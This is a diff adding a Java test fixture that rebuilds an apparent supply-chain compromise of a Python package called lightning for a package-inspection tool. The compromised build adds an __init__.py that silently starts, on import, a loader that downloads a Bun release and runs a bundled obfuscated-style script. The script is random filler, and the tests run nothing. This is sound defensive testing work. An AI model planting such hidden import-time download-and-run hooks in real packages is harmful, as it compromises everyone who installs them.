@@ -1,0 +1,112 @@
+package dev.portcullis.testing;
+
+import java.nio.file.Path;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import java.util.Random;
+
+/**
+ * A harmless reconstruction of the lightning 2.6.1 → 2.6.2 change (docs/INSPECTION.md), built with
+ * the real build front-end. 2.6.1 is a small pure-Python package. 2.6.2 adds {@code _runtime/start.py},
+ * a loader that would download a Bun release and run a script with it, and an 11.4 MB one-line
+ * obfuscated-looking {@code router_runtime.js}; its {@code __init__.py} starts the loader in a daemon
+ * thread with output discarded. Nothing here is executed, imported or fetched by the tests: the
+ * script is random identifiers and strings, the URL is never requested.
+ */
+public final class Lightning {
+
+  public static final String NAME = "lightning";
+  public static final String LOADER = """
+      import os, subprocess, urllib.request, zipfile
+
+      BUN = "https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"
+
+
+      def main():
+          here = os.path.dirname(os.path.abspath(__file__))
+          archive = os.path.join(here, "bun.zip")
+          urllib.request.urlretrieve(BUN, archive)
+          zipfile.ZipFile(archive).extractall(here)
+          subprocess.run([os.path.join(here, "bun-linux-x64", "bun"), os.path.join(here, "router_runtime.js")],
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+      if __name__ == "__main__":
+          main()
+      """;
+
+  private Lightning() {}
+
+  /** The clean release's dist directory (one wheel, one sdist). */
+  public static Path clean(String version) {
+    return PythonClients.buildProject(NAME, version, cleanFiles(version), "");
+  }
+
+  /** The compromised release's dist directory. */
+  public static Path compromised(String version) {
+    Map<String, String> files = cleanFiles(version);
+    files.put("lightning/__init__.py", """
+        import os, subprocess, sys, threading
+
+        from lightning.core import Trainer
+
+        VERSION = "%s"
+
+
+        def _start_runtime():
+            here = os.path.join(os.path.dirname(__file__), "_runtime")
+            subprocess.Popen([sys.executable, os.path.join(here, "start.py")], cwd=here,
+                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+        threading.Thread(target=_start_runtime, daemon=True).start()
+        """.formatted(version));
+    files.put("lightning/_runtime/start.py", LOADER);
+    files.put("lightning/_runtime/router_runtime.js", obfuscatedScript(11_400_000));
+    return PythonClients.buildProject(NAME, version, files, """
+
+        [tool.setuptools.package-data]
+        "*" = ["*.js"]
+        """);
+  }
+
+  private static Map<String, String> cleanFiles(String version) {
+    Map<String, String> files = new LinkedHashMap<>();
+    files.put("lightning/__init__.py", "from lightning.core import Trainer\n\nVERSION = \"" + version + "\"\n");
+    files.put("lightning/core.py", """
+        class Trainer:
+            \"\"\"Runs a training loop.\"\"\"
+
+            def __init__(self, max_epochs=1):
+                self.max_epochs = max_epochs
+
+            def fit(self, model, data):
+                for _ in range(self.max_epochs):
+                    for batch in data:
+                        model.step(batch)
+                return model
+        """);
+    files.put("lightning/utils.py", "def seed_everything(seed):\n    return int(seed)\n");
+    return files;
+  }
+
+  /** One line of {@code size} characters in the style of javascript-obfuscator output: a hex-named string table. */
+  static String obfuscatedScript(int size) {
+    Random random = new Random(2_6_2);
+    StringBuilder js = new StringBuilder(size + 64);
+    js.append("var _0x5a1f=[");
+    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    while (js.length() < size - 200) {
+      js.append('\'');
+      for (int i = 0; i < 24; i++) {
+        js.append(alphabet.charAt(random.nextInt(alphabet.length())));
+      }
+      js.append("',");
+      if (random.nextInt(8) == 0) {
+        js.append(String.format("_0x%04x,", random.nextInt(0x10000)));
+      }
+    }
+    js.append("''];(function(_0x2d8f05,_0x4b81bb){var _0x3c1e=function(_0x1a2b){return _0x5a1f[_0x1a2b];};})(_0x5a1f,0x1b3);\n");
+    return js.toString();
+  }
+}
